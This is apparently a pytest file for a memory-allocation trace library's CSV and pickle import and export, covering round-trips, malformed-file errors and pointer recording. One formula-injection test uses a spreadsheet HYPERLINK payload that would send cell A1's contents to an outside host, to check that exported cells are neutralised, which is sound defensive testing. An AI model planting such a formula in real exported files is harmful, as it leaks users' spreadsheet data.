from __future__ import annotations

import csv

import pytest
from drawn import stacks
from hypothesis import given
from hypothesis import strategies as st

from smartpool.errors import TraceFormatError, TraceInconsistentError
from smartpool.trace import Recorder, Trace, from_csv, read_any
from smartpool.trace.exporters import (
    to_csv,
    write_any,
)

ANY_TEXT = st.text(st.characters(exclude_categories=["Cs"]), max_size=12) | st.sampled_from(
    ["a < b", "=1+1", ":0 x", "a.py:007 f", "a.py:1 f", " a", '"quoted"', "one\rtwo", "\u2028"]
)


class TestCsv:
    @given(st.lists(ANY_TEXT | st.lists(ANY_TEXT, max_size=3).map("\n".join), min_size=1, max_size=5))
    def test_stacks_of_any_text_read_back_equal(self, tmp_path_factory, sites):
        sites = list(dict.fromkeys(sites))
        columns = {"op": [0] * len(sites), "id": range(len(sites)), "size": [8] * len(sites)}
        trace = Trace.from_columns("t", **columns, site=range(len(sites)), meta={"sites": sites})
        for name in ("t.csv", "t.pickle"):
            path = tmp_path_factory.mktemp("text") / name
            write_any(trace, path)
            assert stacks(read_any(path)) == stacks(trace)

    def test_places_beyond_what_a_trace_has_room_for(self, tmp_path):
        rows = [f"0,{row},8,{'x' * 5000}{row}" for row in range(300)]
        (tmp_path / "t.csv").write_text("\n".join(["op,id,size,site", *rows]))
        trace = from_csv(tmp_path / "t.csv")
        left_out = trace.meta["settled"]["sites_left_out"]
        assert 0 < left_out == (trace.site < 0).sum()
        trace.save(tmp_path / "t.npz")
        assert Trace.load(tmp_path / "t.npz") == trace

    def test_no_cell_is_a_formula(self, tmp_path):
        site = '=HYPERLINK("http://elsewhere/?"&A1,"look"):1 f\n+1+1:2 g'
        trace = Trace.from_columns("t", op=[0], id=[0], size=[8], site=[0], meta={"sites": [site]})
        to_csv(trace, tmp_path / "t.csv")
        with (tmp_path / "t.csv").open(newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert [cell for cell in cells if cell[0] in "=+-@\t\r"] == []
        assert from_csv(tmp_path / "t.csv").sites == (site,)

    @pytest.mark.parametrize("names", [("allocate", "free"), ("Alloc", "FREE"), ("malloc", "deallocate")])
    def test_operations_by_name(self, tmp_path, names):
        path = tmp_path / "t.csv"
        path.write_text("op,id,size\n{},0,8\n{},0,8\n".format(*names))
        assert from_csv(path).op.tolist() == [0, 1]

    def test_by_hand_with_the_least_columns(self, tmp_path):
        path = tmp_path / "mine.csv"
        path.write_text("size, id ,op,note\n4096,7,0,first\n\n4096,7,1,last\n")
        trace = from_csv(path)
        assert (trace.name, trace.op.tolist(), trace.id.tolist()) == ("mine", [0, 1], [7, 7])
        assert trace.columns().keys() == {"op", "id", "size", "stream", "t_us"}

    @pytest.mark.parametrize(
        ("text", "error", "match"),
        [
            ("", TraceFormatError, "expected a header"),
            ("op,id\n0,0\n", TraceFormatError, "expected a header"),
            ("op,id,size,adress\n0,0,5,7\n", TraceFormatError, "did you mean 'address'"),
            ("op,op,id,size\n0,0,0,1\n", TraceFormatError, "each once"),
            ("op,id,size\n0,0\n", TraceFormatError, "line 2: expected 3 fields"),
            ("op,id,size\n0,0,-5\n", TraceFormatError, "line 2: expected 'size' to be a number"),
            (
                "op,id,size\nresize,0,5\n",
                TraceFormatError,
                "to be 0 or allocate, or 1 or free, got 'resize'",
            ),
            ("op,id,size\n0,0,1_000\n", TraceFormatError, "line 2: expected 'size' to be a number"),
            ("op,id,size\n0,0,1e9\n", TraceFormatError, "line 2: expected 'size' to be a number"),
            ('op,id,size\n0,0,"5\n', TraceFormatError, "expected CSV"),
            ("op,id,size\n0,0,5\n1,1,5\n", TraceInconsistentError, "never made"),
            ("op,id,size\n0,99999999999,5\n", TraceFormatError, "expected 'id' in"),
            ("op,id,size\n0,0," + "5" * 70_000, TraceFormatError, "less than 65536 characters"),
        ],
    )
    def test_unusable_files(self, tmp_path, text, error, match):
        path = tmp_path / "t.csv"
        path.write_text(text)
        with pytest.raises(error, match=match):
            from_csv(path)

    def test_a_recording_of_real_pointers(self, tmp_path):
        recorder = Recorder()
        recorder.allocated(0x7F0000000000, 4096, 0)
        recorder.freed(0x7F0000000000, 0)
        to_csv(recorder.trace(), tmp_path / "t.csv")
        lines = (tmp_path / "t.csv").read_text().splitlines()
        assert lines[0] == "op,id,size,stream,t_us,address"
        assert lines[1].endswith(",0x7f0000000000")
